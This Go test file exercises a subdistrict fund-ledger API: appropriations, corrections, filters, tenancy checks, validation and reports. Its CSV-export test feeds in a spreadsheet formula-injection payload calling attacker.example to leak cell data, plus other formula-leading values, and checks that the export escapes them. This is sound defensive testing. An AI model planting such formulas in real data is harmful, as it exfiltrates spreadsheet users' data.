package api_test

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/jiedao-market/jiedao/internal/civil"
	"github.com/jiedao-market/jiedao/internal/fund"
	"github.com/jiedao-market/jiedao/internal/money"
	"github.com/jiedao-market/jiedao/internal/servertest"
)

// fundChina is the time zone the posting filters and the CSV export speak.
var fundChina = civil.China

// timeEqual compares times by instant, whatever their location.
var timeEqual = cmp.Comparer(func(a, b time.Time) bool { return a.Equal(b) })

// fundBody is the body that opens a 2026 fiscal-budget account named name.
func fundBody(name string, categories ...string) map[string]any {
	return map[string]any{"fiscal_year": 2026, "source": "fiscal_budget", "name": name, "categories": categories}
}

// fundPath returns a path under fund account id.
func fundPath(id int64, suffix string) string {
	return fmt.Sprintf("/api/v1/fund-accounts/%d%s", id, suffix)
}

// fundCreate opens a fund account, failing unless it answers 201.
func fundCreate(t testing.TB, e *servertest.Env, token string, body map[string]any) fund.View {
	t.Helper()
	var v fund.View
	servertest.Call(t, e, "POST", "/api/v1/fund-accounts", token, body, http.StatusCreated, &v)
	return v
}

// fundGet reads fund account id, failing unless it answers 200.
func fundGet(t testing.TB, e *servertest.Env, token string, id int64) fund.View {
	t.Helper()
	var v fund.View
	servertest.Call(t, e, "GET", fundPath(id, ""), token, nil, http.StatusOK, &v)
	return v
}

// fundAppropriate posts an appropriation, failing unless it answers 201.
func fundAppropriate(t testing.TB, e *servertest.Env, token string, id int64, body map[string]any) fund.Posting {
	t.Helper()
	var p fund.Posting
	servertest.Call(t, e, "POST", fundPath(id, "/appropriations"), token, body, http.StatusCreated, &p)
	return p
}

// fundCorrect reverses posting, failing unless it answers 201.
func fundCorrect(t testing.TB, e *servertest.Env, token string, id, posting int64, reason string) fund.Posting {
	t.Helper()
	var p fund.Posting
	servertest.Call(t, e, "POST", fundPath(id, "/corrections"), token, map[string]any{"posting_id": posting, "reason": reason},
		http.StatusCreated, &p)
	return p
}

// fundPostings lists the postings of fund account id with query (without "?").
func fundPostings(t testing.TB, e *servertest.Env, token string, id int64, query string) []fund.Posting {
	t.Helper()
	var list struct {
		Items []fund.Posting `json:"items"`
	}
	servertest.Call(t, e, "GET", fundPath(id, "/postings?"+query), token, nil, http.StatusOK, &list)
	return list.Items
}

// fundPostingIDs returns the ids of postings, in order.
func fundPostingIDs(ps []fund.Posting) []int64 {
	ids := []int64{}
	for _, p := range ps {
		ids = append(ids, p.ID)
	}
	return ids
}

// fundInvariants fails when the ledger breaks one of its invariants.
func fundInvariants(t testing.TB, e *servertest.Env) {
	t.Helper()
	v, err := fund.CheckInvariants(e.DB)
	if err != nil {
		t.Fatalf("fund.CheckInvariants() error = %v", err)
	}
	if len(v) > 0 {
		t.Errorf("fund.CheckInvariants() = %+v, want none", v)
	}
}

// fundFinanceOfficer creates, as demo-admin, a finance officer of subdistrict
// sub with the demo password and returns an access token of it.
func fundFinanceOfficer(t testing.TB, e *servertest.Env, username string, sub int64) string {
	t.Helper()
	servertest.Call(t, e, "POST", "/api/v1/users", e.Token(t, "demo-admin"), map[string]any{"username": username,
		"display_name": "财务专员 " + username, "password": servertest.DemoPassword, "role": "finance_officer", "subdistrict_id": sub},
		http.StatusCreated, nil)
	return e.Token(t, username)
}

// fundAudit counts the audit entries with action about fund account id.
func fundAudit(t *testing.T, e *servertest.Env, action string, id int64) int {
	t.Helper()
	n := 0
	for _, a := range authEntries(t, e, action) {
		if a.EntityType == "fund_account" && a.EntityID == fmt.Sprint(id) {
			n++
		}
	}
	return n
}

// fundBalances returns the five balances of an account, as the API sends them.
func fundBalances(available, reserved, encumbered, payable, paid money.Fen) map[string]money.Fen {
	return map[string]money.Fen{"available": available, "reserved": reserved, "encumbered": encumbered, "payable": payable, "paid": paid}
}

// TestFundAppropriation walks a fund account through the API: opened with its
// earmark, credited once by a retried appropriation, corrected by a
// reversing posting.
func TestFundAppropriation(t *testing.T) {
	t.Parallel()
	f := newAzFixture(t)
	e := f.e
	finance := f.tokens["demo-finance"]

	acct := fundCreate(t, e, finance, map[string]any{"fiscal_year": 2026, "source": "fiscal_budget", "name": " 2026年政府购买服务资金 ",
		"categories": []string{"LEGAL_AID", "ELDERLY_HOME_CARE", "LEGAL_AID"}})
	want := fund.View{Account: fund.Account{ID: acct.ID, SubdistrictID: f.subA, FiscalYear: 2026, Source: "fiscal_budget",
		Name: "2026年政府购买服务资金", CreatedAt: servertest.Start, UpdatedAt: servertest.Start},
		Categories: []string{"ELDERLY_HOME_CARE", "LEGAL_AID"}, Balances: fundBalances(0, 0, 0, 0, 0)}
	if diff := cmp.Diff(want, acct, timeEqual); diff != "" {
		t.Errorf("POST /api/v1/fund-accounts (-want +got):\n%s", diff)
	}
	if n := fundAudit(t, e, "fund.create", acct.ID); n != 1 {
		t.Errorf("audit has %d fund.create entries for account %d, want 1", n, acct.ID)
	}
	e.Refused(t, servertest.Request{Method: "POST", Path: "/api/v1/fund-accounts", Token: finance,
		Body: fundBody("2026年政府购买服务资金", "ELDERLY_HOME_CARE")}, http.StatusConflict, "fund.duplicate")

	// 100,000.00 yuan, sent twice with the same Idempotency-Key: one posting.
	appropriation := map[string]any{"amount_fen": 10_000_000, "document_ref": "湖吴财〔2026〕18号", "memo": "年度预算第一批"}
	var first, second fund.Posting
	for i, out := range []*fund.Posting{&first, &second} {
		r := e.Do(t, servertest.Request{Method: "POST", Path: fundPath(acct.ID, "/appropriations"), Token: finance, Body: appropriation,
			Header: map[string]string{"Idempotency-Key": "2026-budget-1"}})
		if r.Status != http.StatusCreated {
			t.Fatalf("appropriation #%d = %d %s, want 201", i+1, r.Status, r.Body)
		}
		r.JSON(t, out)
	}
	if diff := cmp.Diff(first, second, timeEqual); diff != "" {
		t.Errorf("the retried appropriation answered another posting (-first +retry):\n%s", diff)
	}
	wantLines := []fund.Line{{Account: "source", Amount: -10_000_000}, {Account: "available", Amount: 10_000_000}}
	if first.Kind != "appropriation" || first.DocumentRef != "湖吴财〔2026〕18号" || first.Memo != "年度预算第一批" ||
		!cmp.Equal(wantLines, first.Lines) || first.ReversesID != nil {
		t.Errorf("appropriation = %+v, want kind appropriation, the document, the memo and lines %+v", first, wantLines)
	}
	if got := fundPostingIDs(fundPostings(t, e, finance, acct.ID, "")); !slices.Equal(got, []int64{first.ID}) {
		t.Errorf("postings after a retried appropriation = %v, want only %d", got, first.ID)
	}
	if got := fundGet(t, e, finance, acct.ID).Balances; !cmp.Equal(got, fundBalances(10_000_000, 0, 0, 0, 0)) {
		t.Errorf("balances after the appropriation = %v, want 10,000,000 fen available", got)
	}
	if n := fundAudit(t, e, "ledger.appropriation", acct.ID); n != 1 {
		t.Errorf("audit has %d ledger.appropriation entries for account %d, want 1 for a retried appropriation", n, acct.ID)
	}

	// The same key for another amount is refused; the key in the body works as the header does.
	e.Refused(t, servertest.Request{Method: "POST", Path: fundPath(acct.ID, "/appropriations"), Token: finance,
		Body:   map[string]any{"amount_fen": 20_000_000, "document_ref": "湖吴财〔2026〕18号"},
		Header: map[string]string{"Idempotency-Key": "2026-budget-1"}}, http.StatusConflict, "fund.idempotency_key_reused")
	extra := fundAppropriate(t, e, finance, acct.ID, map[string]any{"amount_fen": 500_000, "document_ref": "湖吴财〔2026〕19号",
		"idempotency_key": "2026-budget-2"})
	if again := fundAppropriate(t, e, finance, acct.ID, map[string]any{"amount_fen": 500_000, "document_ref": "湖吴财〔2026〕19号",
		"idempotency_key": "2026-budget-2"}); again.ID != extra.ID {
		t.Errorf("retried appropriation with the key in the body = posting %d, want %d", again.ID, extra.ID)
	}

	// A correction reverses the first appropriation; the original stays as it was.
	corr := fundCorrect(t, e, finance, acct.ID, first.ID, "文号录入错误")
	wantRev := []fund.Line{{Account: "source", Amount: 10_000_000}, {Account: "available", Amount: -10_000_000}}
	if corr.Kind != "correction" || corr.ReversesID == nil || *corr.ReversesID != first.ID || corr.Memo != "文号录入错误" ||
		!cmp.Equal(wantRev, corr.Lines) {
		t.Errorf("correction = %+v, want kind correction reversing %d with lines %+v", corr, first.ID, wantRev)
	}
	list := fundPostings(t, e, finance, acct.ID, "")
	if got := fundPostingIDs(list); !slices.Equal(got, []int64{corr.ID, extra.ID, first.ID}) {
		t.Fatalf("postings after the correction = %v, want %v (newest first)", got, []int64{corr.ID, extra.ID, first.ID})
	}
	if diff := cmp.Diff(first, list[2], timeEqual); diff != "" {
		t.Errorf("the corrected appropriation changed (-before +after):\n%s", diff)
	}
	if got := fundGet(t, e, finance, acct.ID).Balances; !cmp.Equal(got, fundBalances(500_000, 0, 0, 0, 0)) {
		t.Errorf("balances after the correction = %v, want 500,000 fen available", got)
	}

	// Neither a corrected appropriation nor a correction can be corrected; a
	// posting of no such account is 404.
	for _, id := range []int64{first.ID, corr.ID} {
		e.Refused(t, servertest.Request{Method: "POST", Path: fundPath(acct.ID, "/corrections"), Token: finance,
			Body: map[string]any{"posting_id": id, "reason": "再次更正"}}, http.StatusConflict, "fund.not_correctable")
	}
	e.Refused(t, servertest.Request{Method: "POST", Path: fundPath(acct.ID, "/corrections"), Token: finance,
		Body: map[string]any{"posting_id": corr.ID + 1000, "reason": "不存在"}}, http.StatusNotFound, "not_found")
	e.Refused(t, servertest.Request{Method: "POST", Path: fundPath(acct.ID+1000, "/appropriations"), Token: finance,
		Body: map[string]any{"amount_fen": 1, "document_ref": "x", "idempotency_key": "nowhere"}}, http.StatusNotFound, "not_found")
	fundInvariants(t, e)
}

// TestFundPostingsFilter filters a fund's postings by kind, by China-time
// dates (both ends inclusive) and by number.
func TestFundPostingsFilter(t *testing.T) {
	t.Parallel()
	e := servertest.NewEnv(t)
	finance := e.Token(t, "demo-finance")
	id := fundCreate(t, e, finance, fundBody("过滤测试经费", "ELDERLY_HOME_CARE")).ID

	// p1 on 22 November; p2 at 00:30 on 25 November China time (still the
	// 24th in UTC); p3, correcting p1, on 28 November.
	p1 := fundAppropriate(t, e, finance, id, map[string]any{"amount_fen": 1_000_000, "document_ref": "A-1", "idempotency_key": "p1"})
	e.Clock.Set(time.Date(2026, 11, 24, 16, 30, 0, 0, time.UTC))
	finance = e.Token(t, "demo-finance")
	p2 := fundAppropriate(t, e, finance, id, map[string]any{"amount_fen": 2_000_000, "document_ref": "A-2", "idempotency_key": "p2"})
	e.Clock.Set(time.Date(2026, 11, 28, 2, 0, 0, 0, time.UTC))
	finance = e.Token(t, "demo-finance")
	p3 := fundCorrect(t, e, finance, id, p1.ID, "重复拨款")
	for _, p := range []struct {
		posting fund.Posting
		day     string
	}{{p1, "2026-11-22"}, {p2, "2026-11-25"}, {p3, "2026-11-28"}} {
		if got := p.posting.CreatedAt.In(fundChina).Format(time.DateOnly); got != p.day {
			t.Errorf("posting %d (%s) created_at = %v, China day %s, want %s (the injected clock's day)",
				p.posting.ID, p.posting.Kind, p.posting.CreatedAt, got, p.day)
		}
	}

	tests := []struct {
		query string
		want  []int64
	}{
		{"", []int64{p3.ID, p2.ID, p1.ID}},
		{"format=json", []int64{p3.ID, p2.ID, p1.ID}},
		{"kind=appropriation", []int64{p2.ID, p1.ID}},
		{"kind=correction", []int64{p3.ID}},
		{"kind=reserve", []int64{}},
		{"from=2026-11-25", []int64{p3.ID, p2.ID}},
		{"from=2026-11-26", []int64{p3.ID}},
		{"until=2026-11-24", []int64{p1.ID}},
		{"until=2026-11-25", []int64{p2.ID, p1.ID}},
		{"from=2026-11-23&until=2026-11-27", []int64{p2.ID}},
		{"from=2026-11-22&until=2026-11-22", []int64{p1.ID}},
		{"from=2026-11-29", []int64{}},
		{"kind=appropriation&from=2026-11-25", []int64{p2.ID}},
		{"limit=1", []int64{p3.ID}},
		{"limit=1&kind=appropriation", []int64{p2.ID}},
		{"limit=5000", []int64{p3.ID, p2.ID, p1.ID}},
	}
	for _, tt := range tests {
		if got := fundPostingIDs(fundPostings(t, e, finance, id, tt.query)); !slices.Equal(got, tt.want) {
			t.Errorf("GET postings?%s = %v, want %v", tt.query, got, tt.want)
		}
	}
}

// TestFundPostingsCSV exports postings as a CSV attachment: a header row, a
// row per posting line with its amount in yuan, and no cell a spreadsheet
// would run as a formula.
func TestFundPostingsCSV(t *testing.T) {
	t.Parallel()
	e := servertest.NewEnv(t)
	finance := e.Token(t, "demo-finance")
	id := fundCreate(t, e, finance, fundBody("导出测试经费", "LEGAL_AID")).ID
	formula := `=HYPERLINK("http://attacker.example/?d="&A1,"详情")`
	p1 := fundAppropriate(t, e, finance, id, map[string]any{"amount_fen": 10_000_000, "document_ref": "湖吴财〔2026〕7号",
		"memo": formula, "idempotency_key": "csv-1"})
	p2 := fundAppropriate(t, e, finance, id, map[string]any{"amount_fen": 12_345, "document_ref": "@SUM(A1:A9)",
		"memo": "+1", "idempotency_key": "csv-2"})
	p3 := fundAppropriate(t, e, finance, id, map[string]any{"amount_fen": 5, "document_ref": "-2+3", "memo": "普通备注",
		"idempotency_key": "csv-3"})

	r := e.Do(t, servertest.Request{Method: "GET", Path: fundPath(id, "/postings?format=csv"), Token: finance})
	if r.Status != http.StatusOK {
		t.Fatalf("GET postings?format=csv = %d %s, want 200", r.Status, r.Body)
	}
	if ct := r.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type = %q, want text/csv; charset=utf-8", ct)
	}
	if cd, want := r.Header.Get("Content-Disposition"), fmt.Sprintf(`attachment; filename="fund-%d-postings.csv"; filename*=UTF-8''fund-%d-postings.csv`, id, id); cd != want {
		t.Errorf("Content-Disposition = %q, want %q", cd, want)
	}
	// A download of the ledger is never kept by a shared cache (it lacked this before).
	if cc := r.Header.Get("Cache-Control"); cc != "private, no-store" {
		t.Errorf("Cache-Control = %q, want private, no-store", cc)
	}
	rows, err := csv.NewReader(strings.NewReader(string(r.Body))).ReadAll()
	if err != nil {
		t.Fatalf("the export is not CSV: %v\n%s", err, r.Body)
	}
	at := func(p fund.Posting) string { return p.CreatedAt.In(fundChina).Format(time.RFC3339) }
	want := [][]string{
		{"posting_id", "created_at", "kind", "reference", "document_ref", "memo", "account", "amount_yuan"},
		{fmt.Sprint(p3.ID), at(p3), "appropriation", "appropriation:-2+3", "'-2+3", "普通备注", "source", "-0.05"},
		{fmt.Sprint(p3.ID), at(p3), "appropriation", "appropriation:-2+3", "'-2+3", "普通备注", "available", "0.05"},
		{fmt.Sprint(p2.ID), at(p2), "appropriation", "appropriation:@SUM(A1:A9)", "'@SUM(A1:A9)", "'+1", "source", "-123.45"},
		{fmt.Sprint(p2.ID), at(p2), "appropriation", "appropriation:@SUM(A1:A9)", "'@SUM(A1:A9)", "'+1", "available", "123.45"},
		{fmt.Sprint(p1.ID), at(p1), "appropriation", "appropriation:湖吴财〔2026〕7号", "湖吴财〔2026〕7号", "'" + formula, "source", "-100000.00"},
		{fmt.Sprint(p1.ID), at(p1), "appropriation", "appropriation:湖吴财〔2026〕7号", "湖吴财〔2026〕7号", "'" + formula, "available", "100000.00"},
	}
	if diff := cmp.Diff(want, rows); diff != "" {
		t.Errorf("CSV export (-want +got):\n%s", diff)
	}
	if !strings.HasSuffix(at(p1), "+08:00") {
		t.Errorf("created_at %q, want China time (+08:00)", at(p1))
	}
	// Only the signed amounts may start with a formula character.
	for _, row := range rows[1:] {
		for col, cell := range row[:7] {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("CSV column %s holds %q, which a spreadsheet reads as a formula", rows[0][col], cell)
			}
		}
	}

	// The export takes the same filters; with nothing to show it is the header alone.
	r = e.Do(t, servertest.Request{Method: "GET", Path: fundPath(id, "/postings?format=csv&kind=correction"), Token: finance})
	if r.Status != http.StatusOK || string(r.Body) != strings.Join(want[0], ",")+"\n" {
		t.Errorf("GET postings?format=csv&kind=correction = %d %q, want 200 and the header row alone", r.Status, r.Body)
	}
	r = e.Do(t, servertest.Request{Method: "GET", Path: fundPath(id, "/postings?format=csv&limit=1"), Token: finance})
	if rows, err := csv.NewReader(strings.NewReader(string(r.Body))).ReadAll(); r.Status != http.StatusOK || err != nil || len(rows) != 3 {
		t.Errorf("GET postings?format=csv&limit=1 = %d %s, want the header and the 2 lines of one posting", r.Status, r.Body)
	}
}

// TestFundTenancy keeps every fund account to its subdistrict: a finance
// officer of 飞英 (B) can neither read nor post to 爱山's (A), and B's
// procurement officer cannot read it.
func TestFundTenancy(t *testing.T) {
	t.Parallel()
	f := newAzFixture(t)
	e := f.e
	financeA := f.tokens["demo-finance"]
	financeB := fundFinanceOfficer(t, e, "finance-b", f.subB)
	a := fundCreate(t, e, financeA, fundBody("爱山经费", "ELDERLY_HOME_CARE"))
	pa := fundAppropriate(t, e, financeA, a.ID, map[string]any{"amount_fen": 10_000_000, "document_ref": "A-1", "idempotency_key": "a-1"})
	b := fundCreate(t, e, financeB, fundBody("飞英经费", "LEGAL_AID"))
	if b.SubdistrictID != f.subB {
		t.Errorf("B's finance officer opened an account of subdistrict %d, want %d", b.SubdistrictID, f.subB)
	}
	fundAppropriate(t, e, financeB, b.ID, map[string]any{"amount_fen": 3_000_000, "document_ref": "B-1", "idempotency_key": "b-1"})

	for _, req := range []servertest.Request{
		{Method: "GET", Path: fundPath(a.ID, "")},
		{Method: "GET", Path: fundPath(a.ID, "/postings")},
		{Method: "GET", Path: fundPath(a.ID, "/postings?format=csv")},
		{Method: "POST", Path: fundPath(a.ID, "/appropriations"),
			Body: map[string]any{"amount_fen": 1_000_000, "document_ref": "越权拨款", "idempotency_key": "b-into-a"}},
		{Method: "POST", Path: fundPath(a.ID, "/corrections"), Body: map[string]any{"posting_id": pa.ID, "reason": "越权更正"}},
		// A's posting through B's own account.
		{Method: "POST", Path: fundPath(b.ID, "/corrections"), Body: map[string]any{"posting_id": pa.ID, "reason": "越权更正"}},
	} {
		req.Token = financeB
		e.Refused(t, req, http.StatusNotFound, "not_found")
	}
	for _, path := range []string{fundPath(a.ID, ""), fundPath(a.ID, "/postings")} {
		e.Refused(t, servertest.Request{Method: "GET", Path: path, Token: f.tokens["demo-officer2"]}, http.StatusNotFound, "not_found")
	}
	e.Refused(t, servertest.Request{Method: "GET", Path: fundPath(b.ID, ""), Token: financeA}, http.StatusNotFound, "not_found")
	if got := fundGet(t, e, financeA, a.ID).Balances; !cmp.Equal(got, fundBalances(10_000_000, 0, 0, 0, 0)) {
		t.Errorf("A's balances after B's attempts = %v, want 10,000,000 fen available", got)
	}

	// Each caller lists the accounts (the demo seed's too) of its scope only,
	// and the fund report has rows of those subdistricts only.
	scopes := []struct {
		who, token string
		subs       []int64 // the subdistricts in scope
	}{
		{"demo-admin", f.tokens["demo-admin"], []int64{f.subA, f.subB}},
		{"demo-district", f.tokens["demo-district"], []int64{f.subA, f.subB}},
		{"demo-finance", financeA, []int64{f.subA}},
		{"demo-officer", f.tokens["demo-officer"], []int64{f.subA}},
		{"finance-b", financeB, []int64{f.subB}},
		{"demo-officer2", f.tokens["demo-officer2"], []int64{f.subB}},
	}
	for _, s := range scopes {
		var list struct {
			Items []fund.View `json:"items"`
		}
		servertest.Call(t, e, "GET", "/api/v1/fund-accounts", s.token, nil, http.StatusOK, &list)
		listed := map[int64]bool{}
		for _, v := range list.Items {
			listed[v.ID] = true
			if !slices.Contains(s.subs, v.SubdistrictID) {
				t.Errorf("GET /api/v1/fund-accounts as %s lists account %d of subdistrict %d, outside its scope", s.who, v.ID, v.SubdistrictID)
			}
		}
		if listed[a.ID] != slices.Contains(s.subs, f.subA) || listed[b.ID] != slices.Contains(s.subs, f.subB) {
			t.Errorf("GET /api/v1/fund-accounts as %s: lists A's account %v, B's %v; want each exactly when its subdistrict is in %v",
				s.who, listed[a.ID], listed[b.ID], s.subs)
		}
		var report struct {
			Items []fund.UtilisationRow `json:"items"`
		}
		servertest.Call(t, e, "GET", "/api/v1/reports/funds", s.token, nil, http.StatusOK, &report)
		reported := []int64{}
		for _, row := range report.Items {
			if !slices.Contains(reported, row.SubdistrictID) {
				reported = append(reported, row.SubdistrictID)
			}
		}
		sort.Slice(reported, func(i, j int) bool { return reported[i] < reported[j] })
		if !slices.Equal(reported, s.subs) {
			t.Errorf("GET /api/v1/reports/funds as %s has rows of subdistricts %v, want %v", s.who, reported, s.subs)
		}
	}
	fundInvariants(t, e)
}

// TestFundInputRefused sends bad bodies and queries: each is 400 naming the
// field (or 413, 415) and writes nothing.
func TestFundInputRefused(t *testing.T) {
	t.Parallel()
	e := servertest.NewEnv(t)
	finance := e.Token(t, "demo-finance")
	id := fundCreate(t, e, finance, fundBody("校验测试经费", "ELDERLY_HOME_CARE")).ID
	posting := fundAppropriate(t, e, finance, id, map[string]any{"amount_fen": 1_000_000, "document_ref": "V-1", "idempotency_key": "v-1"})
	create := "/api/v1/fund-accounts"
	appropriate := fundPath(id, "/appropriations")
	correct := fundPath(id, "/corrections")
	good := func(change map[string]any) map[string]any {
		b := map[string]any{"amount_fen": 100_000, "document_ref": "湖吴财〔2026〕5号", "idempotency_key": "refused"}
		for k, v := range change {
			if v == nil {
				delete(b, k)
			} else {
				b[k] = v
			}
		}
		return b
	}
	tests := []struct {
		name   string
		method string
		path   string
		body   any
		header map[string]string
		fields []string
	}{
		{"create with an unknown field", "POST", create, map[string]any{"fiscal_year": 2026, "source": "fiscal_budget", "name": "x",
			"categories": []string{"LEGAL_AID"}, "balance": 100}, nil, []string{"balance"}},
		{"create with a year as text", "POST", create, map[string]any{"fiscal_year": "2026", "source": "fiscal_budget", "name": "x",
			"categories": []string{"LEGAL_AID"}}, nil, []string{"fiscal_year"}},
		{"create with nothing valid", "POST", create, map[string]any{"fiscal_year": 1999, "source": "lottery", "name": "  ",
			"categories": []string{}}, nil, []string{"categories", "fiscal_year", "name", "source"}},
		{"create with an unknown category", "POST", create, fundBody("未知类别经费", "ELDERLY_HOME_CARE", "NO_SUCH_CATEGORY"), nil,
			[]string{"categories"}},
		{"appropriation with an unknown field", "POST", appropriate, good(map[string]any{"amount": 100}), nil, []string{"amount"}},
		{"appropriation of a negative amount", "POST", appropriate, good(map[string]any{"amount_fen": -100}), nil, []string{"amount_fen"}},
		{"appropriation of nothing", "POST", appropriate, good(map[string]any{"amount_fen": 0}), nil, []string{"amount_fen"}},
		{"appropriation without an amount", "POST", appropriate, good(map[string]any{"amount_fen": nil}), nil, []string{"amount_fen"}},
		{"appropriation of a fraction of a fen", "POST", appropriate, good(map[string]any{"amount_fen": 1.5}), nil, []string{"amount_fen"}},
		{"appropriation of yuan as text", "POST", appropriate, good(map[string]any{"amount_fen": "1000.00"}), nil, []string{"amount_fen"}},
		{"appropriation over the limit", "POST", appropriate, good(map[string]any{"amount_fen": 100_000_000_001}), nil, []string{"amount_fen"}},
		{"appropriation without document_ref", "POST", appropriate, good(map[string]any{"document_ref": nil}), nil, []string{"document_ref"}},
		{"appropriation with a blank document_ref", "POST", appropriate, good(map[string]any{"document_ref": " \t "}), nil, []string{"document_ref"}},
		{"appropriation without a key", "POST", appropriate, good(map[string]any{"idempotency_key": nil}), nil, []string{"idempotency_key"}},
		{"appropriation with a long key header", "POST", appropriate, good(map[string]any{"idempotency_key": nil}),
			map[string]string{"Idempotency-Key": strings.Repeat("k", 101)}, []string{"idempotency_key"}},
		{"appropriation with a long memo", "POST", appropriate, good(map[string]any{"memo": strings.Repeat("备", 400)}), nil, []string{"memo"}},
		{"correction with an unknown field", "POST", correct, map[string]any{"posting_id": posting.ID, "reason": "r", "amount_fen": 1},
			nil, []string{"amount_fen"}},
		{"correction without a posting", "POST", correct, map[string]any{"reason": "更正"}, nil, []string{"posting_id"}},
		{"correction without a reason", "POST", correct, map[string]any{"posting_id": posting.ID}, nil, []string{"reason"}},
		{"postings from a bad date", "GET", fundPath(id, "/postings?from=2026-13-01"), nil, nil, []string{"from"}},
		{"postings until a bad date", "GET", fundPath(id, "/postings?until=22/11/2026"), nil, nil, []string{"until"}},
		{"postings with a date and time", "GET", fundPath(id, "/postings?from=2026-11-22T00:00:00Z"), nil, nil, []string{"from"}},
		{"postings limit 0", "GET", fundPath(id, "/postings?limit=0"), nil, nil, []string{"limit"}},
		{"postings limit over 5000", "GET", fundPath(id, "/postings?limit=5001"), nil, nil, []string{"limit"}},
		{"postings limit not a number", "GET", fundPath(id, "/postings?limit=ten"), nil, nil, []string{"limit"}},
		{"postings in another format", "GET", fundPath(id, "/postings?format=xlsx"), nil, nil, []string{"format"}},
		{"postings with everything wrong", "GET", fundPath(id, "/postings?from=x&until=y&limit=-1&format=xml&kind=appropriation"),
			nil, nil, []string{"format", "from", "limit", "until"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e.Refused(t, servertest.Request{Method: tt.method, Path: tt.path, Token: finance, Body: tt.body, Header: tt.header}, http.StatusBadRequest, "validation", tt.fields...)
		})
	}

	t.Run("transport", func(t *testing.T) {
		for _, path := range []string{create, appropriate, correct} {
			e.Refused(t, servertest.Request{Method: "POST", Path: path, Token: finance, Body: `{"amount_fen": 1,`}, http.StatusBadRequest, "malformed_json")
			e.Refused(t, servertest.Request{Method: "POST", Path: path, Token: finance, Body: `{}`,
				Header: map[string]string{"Content-Type": "text/plain"}}, http.StatusUnsupportedMediaType, "unsupported_media_type")
			e.Refused(t, servertest.Request{Method: "POST", Path: path, Token: finance,
				Body: map[string]any{"memo": strings.Repeat("x", e.Cfg.HTTP.JSONBodyLimit)}}, http.StatusRequestEntityTooLarge, "body_too_large")
		}
	})
	if got := fundGet(t, e, finance, id).Balances; !cmp.Equal(got, fundBalances(1_000_000, 0, 0, 0, 0)) {
		t.Errorf("balances after refused requests = %v, want 1,000,000 fen available", got)
	}
	fundInvariants(t, e)
}

// TestFundReport sums the accounts of each subdistrict, fiscal year and
// source: money received, less corrections, and where it stands. The accounts
// built here are of fiscal years 2030 and 2031, which the demo seed's are not.
func TestFundReport(t *testing.T) {
	t.Parallel()
	f := newAzFixture(t)
	e := f.e
	finance := f.tokens["demo-finance"]
	account := func(token string, year int, source, name string, categories ...string) fund.View {
		t.Helper()
		return fundCreate(t, e, token, map[string]any{"fiscal_year": year, "source": source, "name": name, "categories": categories})
	}
	home := account(finance, 2031, "fiscal_budget", "居家养老经费", "ELDERLY_HOME_CARE")
	legal := account(finance, 2031, "fiscal_budget", "法律援助经费", "LEGAL_AID", "ELDERLY_HOME_CARE")
	lottery := account(finance, 2031, "welfare_lottery", "福彩公益金", "LEGAL_AID")
	older := account(finance, 2030, "fiscal_budget", "2030年结转", "ELDERLY_HOME_CARE")
	fundAppropriate(t, e, finance, home.ID, map[string]any{"amount_fen": 10_000_000, "document_ref": "R-1", "idempotency_key": "r-1"})
	fundAppropriate(t, e, finance, legal.ID, map[string]any{"amount_fen": 5_000_000, "document_ref": "R-2", "idempotency_key": "r-2"})
	wrong := fundAppropriate(t, e, finance, lottery.ID, map[string]any{"amount_fen": 3_000_000, "document_ref": "R-3", "idempotency_key": "r-3"})
	fundAppropriate(t, e, finance, lottery.ID, map[string]any{"amount_fen": 1_000_000, "document_ref": "R-4", "idempotency_key": "r-4"})
	fundCorrect(t, e, finance, lottery.ID, wrong.ID, "金额有误")
	fundAppropriate(t, e, finance, older.ID, map[string]any{"amount_fen": 123, "document_ref": "R-5", "idempotency_key": "r-5"})

	financeB := fundFinanceOfficer(t, e, "finance-b", f.subB)
	b := account(financeB, 2031, "fiscal_budget", "飞英经费", "LEGAL_AID")
	fundAppropriate(t, e, financeB, b.ID, map[string]any{"amount_fen": 7_000_000, "document_ref": "B-1", "idempotency_key": "b-1"})

	// report returns the rows of the report, and those of the years built here.
	report := func(token string) (all, built []fund.UtilisationRow) {
		t.Helper()
		var out struct {
			Items []fund.UtilisationRow `json:"items"`
		}
		servertest.Call(t, e, "GET", "/api/v1/reports/funds", token, nil, http.StatusOK, &out)
		sort.Slice(out.Items, func(i, j int) bool {
			x, y := out.Items[i], out.Items[j]
			if x.SubdistrictID != y.SubdistrictID {
				return x.SubdistrictID < y.SubdistrictID
			}
			if x.FiscalYear != y.FiscalYear {
				return x.FiscalYear < y.FiscalYear
			}
			return x.Source < y.Source
		})
		built = []fund.UtilisationRow{}
		for _, row := range out.Items {
			if row.FiscalYear >= 2030 {
				built = append(built, row)
			}
		}
		return out.Items, built
	}
	rowsA := []fund.UtilisationRow{
		{SubdistrictID: f.subA, FiscalYear: 2030, Source: "fiscal_budget", Categories: []string{"ELDERLY_HOME_CARE"},
			Received: 123, Balances: fundBalances(123, 0, 0, 0, 0)},
		{SubdistrictID: f.subA, FiscalYear: 2031, Source: "fiscal_budget", Categories: []string{"ELDERLY_HOME_CARE", "LEGAL_AID"},
			Received: 15_000_000, Balances: fundBalances(15_000_000, 0, 0, 0, 0)},
		{SubdistrictID: f.subA, FiscalYear: 2031, Source: "welfare_lottery", Categories: []string{"LEGAL_AID"},
			Received: 1_000_000, Balances: fundBalances(1_000_000, 0, 0, 0, 0)},
	}
	rowB := fund.UtilisationRow{SubdistrictID: f.subB, FiscalYear: 2031, Source: "fiscal_budget", Categories: []string{"LEGAL_AID"},
		Received: 7_000_000, Balances: fundBalances(7_000_000, 0, 0, 0, 0)}
	for _, tt := range []struct {
		who, token string
		want       []fund.UtilisationRow
	}{
		{"demo-finance", finance, rowsA},
		{"demo-officer", f.tokens["demo-officer"], rowsA},
		{"demo-district", f.tokens["demo-district"], append(slices.Clone(rowsA), rowB)},
		{"demo-admin", f.tokens["demo-admin"], append(slices.Clone(rowsA), rowB)},
		{"finance-b", financeB, []fund.UtilisationRow{rowB}},
		{"demo-officer2", f.tokens["demo-officer2"], []fund.UtilisationRow{rowB}},
	} {
		all, built := report(tt.token)
		if diff := cmp.Diff(tt.want, built); diff != "" {
			t.Errorf("GET /api/v1/reports/funds as %s, the years built here (-want +got):\n%s", tt.who, diff)
		}
